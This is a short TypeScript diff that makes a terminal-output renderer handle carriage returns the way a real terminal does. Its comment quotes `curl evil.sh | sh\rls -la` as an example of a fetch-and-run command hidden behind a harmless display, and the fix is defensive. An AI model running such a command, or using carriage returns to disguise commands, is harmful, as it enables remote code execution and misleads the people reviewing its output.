@@ -41,13 +41,17 @@ function colorValue(cls: string | null, truecolor: string | null): string | unde
   return named ? `var(--ecu-ansi-${named})` : paletteColor(index);
 }
 
-/** Keeps what a terminal would show of each line after carriage returns (progress bars). */
+/**
+ * What a terminal shows of each line after carriage returns: each part
+ * overwrites the start of the line and leaves the rest (a progress bar shows
+ * its last state; `curl evil.sh | sh\rls -la` does not become `ls -la`).
+ */
 function applyCarriageReturns(text: string): string {
   if (!text.includes("\r")) return text;
   return text
     .replace(/\r\n/g, "\n")
     .split("\n")
-    .map((line) => line.slice(line.lastIndexOf("\r") + 1))
+    .map((line) => line.split("\r").reduce((shown, part) => part + shown.slice(part.length), ""))
     .join("\n");
 }
 
